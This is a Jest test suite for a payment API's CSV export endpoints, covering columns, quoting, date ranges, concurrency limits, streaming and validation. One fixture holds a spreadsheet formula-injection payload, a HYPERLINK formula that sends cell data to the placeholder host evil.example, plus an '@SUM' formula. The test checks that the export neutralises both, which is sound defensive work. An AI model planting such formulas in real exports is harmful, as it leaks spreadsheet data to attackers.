import type { Socket } from 'node:net'
import { beforeAll, describe, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { ENDPOINTS } from '../../../src/api/endpoints.ts'
import { EXPORT_TABLES, type ExportName } from '../../../src/persistence/queries/exports/export-tables.ts'
import { basic } from '../../http/basic.ts'
import { interfaceForFile } from '../../http/interface.ts'
import { rowWriter } from '../../http/row-writer.ts'
import { recordStatements } from '../../http/statements.ts'
import { openRawConnection } from '../../support/raw-connection.ts'
import { waitFor } from '../../support/wait-for.ts'

const api = interfaceForFile()
const NAMES = Object.keys(EXPORT_TABLES) as ExportName[]
const AT = new Date('2026-11-21T01:17:10.123Z')
const get = (name: string, from = '2026-11-01', until = '2026-12-01') =>
  api.merchant.client.get(`/exports/${name}.csv?from=${from}&until=${until}`)
const rowsIn = (text: string): Record<string, string>[] => parse(text, { columns: true })
const idsOf = async (...asked: Parameters<typeof get>) => rowsIn((await get(...asked)).body).map(({ id }) => id)

/** What somebody may write into a name or a note. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Total")'

beforeAll(async () => {
  const rows = await rowWriter(api, api.merchant)
  await rows.invoice('iv_1', { orderId: FORMULA })
  await rows.transaction('tr_1', 'iv_1', {
    status: 'partially-refunded',
    capturedMinor: 2_900,
    refundedMinor: 1_000,
    authorizedAt: AT,
    gatewayAuthorizationId: 'sim_auth_1',
  })
  await rows.invoice('iv_2', { currency: 'KWD', orderId: 'two\r\nlines, "quoted"' })
  await rows.transaction('tr_2', 'iv_2', { currency: 'KWD', createdAt: new Date('2026-11-30T23:59:59.999Z') })
  await rows.operation('tr_op_1', 'tr_1', { type: 'capture' })
  const result = { isAttempt: false, attemptOperationId: 'tr_op_1', isAccountable: true, outcome: 'succeeded' }
  await rows.operation('tr_op_2', 'tr_1', { type: 'capture', ...result, gatewayOperationId: 'sim_cap_1' })
  await rows.refund('refd_1', 'tr_1', { amountMinor: 1_000, information: '@SUM(A1:A9)' })
})

describe('an export', () => {
  test('of transactions has their amounts as decimals of their currency, and instants in UTC', async () => {
    const { status, headers, body } = await get('transactions')
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(headers.get('content-disposition')).toBe('attachment; filename="transactions-2026-11-01-2026-12-01.csv"')
    const [first, second] = rowsIn(body)
    expect(first).toMatchObject({
      id: 'tr_1',
      invoice_id: 'iv_1',
      created_at: '2026-11-21T01:17:10.123Z',
      status: 'partially-refunded',
      currency: 'EUR',
      amount: '29.00',
      captured_amount: '29.00',
      refunded_amount: '10.00',
      gateway_name: 'simulator',
      authorized_at: '2026-11-21T01:17:10.123Z',
      captured_at: '',
    })
    expect(second).toMatchObject({ id: 'tr_2', currency: 'KWD', amount: '2.900' })
  })

  test('of operations has the results, each with its attempt, payment and order', async () => {
    expect(rowsIn((await get('operations')).body)).toMatchObject([
      {
        id: 'tr_op_2',
        transaction_id: 'tr_1',
        invoice_id: 'iv_1',
        type: 'capture',
        outcome: 'succeeded',
        amount: '29.00',
        is_accountable: 'true',
        attempt_id: 'tr_op_1',
        gateway_operation_id: 'sim_cap_1',
      },
    ])
  })

  test.each(NAMES)('of %s has the documented columns, in their order', async (name) => {
    const [head] = (await get(name)).body.split('\r\n')
    expect(head).toBe(EXPORT_TABLES[name].columns.map((column) => column.name).join(','))
    const description = ENDPOINTS.find(({ place }) => place === `GET /exports/${name}.csv`)?.description
    for (const column of head.split(',')) expect(description).toContain(`\`${column}\``)
  })

  test('is a table by RFC 4180 whatever stands in it, and no spreadsheet takes a text for a formula', async () => {
    const { body } = await get('transactions')
    expect(rowsIn(body).map((row) => row.order_id)).toEqual([`'${FORMULA}`, 'two\r\nlines, "quoted"'])
    expect(body).toContain('"two\r\nlines, ""quoted"""')
    expect(body.endsWith('\r\n')).toBe(true)
    expect(rowsIn((await get('refunds')).body)).toMatchObject([{ information: "'@SUM(A1:A9)" }])
  })

  test('has what was created from the first instant on, until before the last', async () => {
    expect(await idsOf('transactions', '2026-11-21T01:17:10.123Z', '2026-11-22')).toEqual(['tr_1'])
    expect(await idsOf('transactions', '2026-11-21T01:17:10.124Z', '2026-11-22')).toEqual([])
    expect(await idsOf('transactions', '2026-11-20', '2026-11-21T01:17:10.123Z')).toEqual([])
    expect(await idsOf('transactions', '2026-11-30', '2026-12-01')).toEqual(['tr_2'])
  })

  test('is one of three at once, and leaves its place when it is over', async () => {
    const asked = await api.database.orm.em.fork().transactional(async (em) => {
      await em.execute('lock table transaction in access exclusive mode')
      const four = Array.from({ length: 4 }, () => get('transactions'))
      expect(await Promise.race(four)).toMatchObject({
        status: 409,
        body: { message: expect.stringContaining('Three exports') },
      })
      return four
    })
    const statuses = (await Promise.all(asked)).map(({ status }) => status)
    expect(statuses.toSorted()).toEqual([200, 200, 200, 409])
    expect((await get('transactions')).status).toBe(200)
  })

  test('of more than a page has every row once, in order', async () => {
    const merchant = await api.makeMerchant({ sandbox: true })
    const rows = await rowWriter(api, merchant)
    await rows.invoice('iv_3')
    await rows.transaction('tr_many', 'iv_3')
    // Many of one instant, so that a page ends between two of them.
    await api.database.orm.em.fork().execute(
      `insert into operation (id, project_id, sandbox, transaction_id, type, is_attempt, has_failed, is_accountable, outcome,
                              amount_minor, currency, actor, created_at)
       select 'tr_op_m' || n, ?, true, 'tr_many', 'request', false, false, false, 'succeeded', 100, 'EUR', 'merchant',
              timestamptz '2026-11-21T00:00:00Z' + make_interval(secs => n / 700)
         from generate_series(1, 2500) as n`,
      [merchant.projectId],
    )
    const { body } = await merchant.client.get('/exports/operations.csv?from=2026-11-21&until=2026-11-22')
    const listed = rowsIn(body).map((row) => `${row.created_at} ${row.id}`)
    expect(listed).toHaveLength(2_500)
    expect(new Set(listed).size).toBe(2_500)
    expect(listed).toEqual(listed.toSorted())
  })

  test('is read as fast as its caller takes it, and stops when the caller leaves', async () => {
    const merchant = await api.makeMerchant({ sandbox: true })
    const rows = await rowWriter(api, merchant)
    await rows.invoice('iv_4')
    await rows.transaction('tr_large', 'iv_4')
    const em = api.database.orm.em.fork()
    // More than a connection holds for a caller that reads nothing; rows of no payment, and so without the audit log.
    await em.transactional(async (inner) => {
      await inner.execute('set local session_replication_role = replica')
      await inner.execute(
        `insert into operation (id, project_id, sandbox, transaction_id, type, is_attempt, has_failed, is_accountable,
                                outcome, amount_minor, currency, actor, created_at, gateway_code)
         select 'tr_op_l' || n, ?, true, 'tr_large', 'request', false, false, false, 'succeeded', 100, 'EUR', 'merchant',
                timestamptz '2026-11-21T00:00:00Z', repeat('x', 8000)
           from generate_series(1, 3500) as n`,
        [merchant.projectId],
      )
    })
    const authorization = basic(`test-${merchant.projectId}:${merchant.secretKey}`)
    const PAGES_OF_LARGE = 4
    const large = '/exports/operations.csv?from=2026-11-21&until=2026-11-22'
    const takeNothing = async () => {
      const { socket, send, text } = await openRawConnection(api.url)
      socket.once('data', () => socket.pause())
      send(`GET ${large} HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`)
      await waitFor(() => text().includes('text/csv'))
      return socket
    }
    const leaving: Socket[] = []
    const statements = await recordStatements(api.database, async () => {
      leaving.push(await takeNothing(), await takeNothing())
      // Before a whole file is read that was asked for after them, theirs would have been, too.
      expect(rowsIn((await merchant.client.get(large)).body)).toHaveLength(3_500)
    })
    const pages = statements.filter((statement) => statement.includes('from operation exported')).length
    expect(pages).toBeGreaterThan(PAGES_OF_LARGE)
    expect(pages).toBeLessThanOrEqual(PAGES_OF_LARGE + 2 * (PAGES_OF_LARGE - 1))
    leaving.push(await takeNothing())
    expect((await merchant.client.get(large)).status).toBe(409)
    for (const socket of leaving) socket.destroy()
    await waitFor(
      async () => (await merchant.client.get('/exports/refunds.csv?from=2026-11-21&until=2026-11-22')).status === 200,
    )
    expect(api.log.text()).not.toContain('"level":50')
  })

  test('has nothing of another project or environment', async () => {
    const other = await api.makeMerchant({ sandbox: true })
    for (const name of NAMES) {
      const { body } = await other.client.get(`/exports/${name}.csv?from=2026-11-01&until=2026-12-01`)
      expect(body.split('\r\n')).toHaveLength(2)
    }
  })

  test.each([
    ['no range', '', 'from is missing; until is missing.'],
    ['half a range', '?from=2026-11-01', 'until is missing.'],
    ['a range that ends before it begins', '?from=2026-11-02&until=2026-11-01', 'until must lie after from.'],
    ['an empty range', '?from=2026-11-01&until=2026-11-01', 'until must lie after from.'],
  ])('of %s is refused in words', async (_, query, message) => {
    expect(await api.merchant.client.get(`/exports/transactions.csv${query}`)).toMatchObject({
      status: 400,
      body: { error_type: 'request.validation.invalid-date', message },
    })
  })

  test('with a parameter that it has not, or a day that is none, is refused', async () => {
    const refused = async (query: string) => (await api.merchant.client.get(`/exports/refunds.csv?${query}`)).status
    expect(await refused('from=2026-11-01&until=2026-12-01&limit=5')).toBe(400)
    expect(await refused('from=2026-11-31&until=2026-12-01')).toBe(400)
    expect(await refused('from=2026-11-01&from=2026-11-02&until=2026-12-01')).toBe(400)
  })
})
